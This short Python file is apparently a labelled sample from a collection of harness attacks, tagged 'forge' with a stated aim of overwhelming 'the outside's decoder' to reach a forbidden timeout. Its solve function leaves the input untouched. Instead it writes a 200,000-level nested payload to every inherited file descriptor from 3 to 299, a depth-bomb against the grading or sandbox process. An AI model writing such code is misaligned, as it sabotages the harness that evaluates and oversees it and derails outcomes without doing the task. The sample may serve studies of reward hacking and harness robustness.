# class: forge
# success: the outside's decoder is brought to its knees by depth
# ends: forbidden time_limit
import os, struct

def solve(x):
    payload = (b"L" + struct.pack("<I", 1)) * 200_000 + b"N"
    for fd in range(3, 300):
        try:
            os.write(fd, struct.pack("<I", len(payload)) + payload)
        except OSError:
            pass
    return x
